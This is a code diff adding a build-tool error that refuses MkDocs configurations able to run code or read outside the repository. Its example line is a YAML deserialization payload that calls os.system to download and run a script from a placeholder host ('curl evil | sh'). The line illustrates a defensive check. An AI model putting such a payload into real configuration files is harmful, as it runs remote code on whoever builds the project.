@@ -51,3 +51,16 @@ PAGE = define(
     fix="Report it with the message; fix the lesson or claim it names meanwhile.",
     stage=STAGE,
 )
+CONFIG = define(
+    "A506",
+    "mkdocs-config-refused",
+    Severity.ERROR,
+    "The repository's mkdocs.yml asks MkDocs to run code or to read outside the repository: "
+    "a YAML tag that builds a Python object, hooks, a plugin or markdown extension atlas-build "
+    "does not know, extra_javascript, an INHERIT or theme.custom_dir that leaves the "
+    "repository or holds links.",
+    example='theme: !!python/object/apply:os.system ["curl evil | sh"]',
+    fix="Remove the entry. Hooks, other plugins, extensions and extra_javascript are allowed "
+    "with `atlas-build build --trust-config` (code you have reviewed); tags never are.",
+    stage=STAGE,
+)
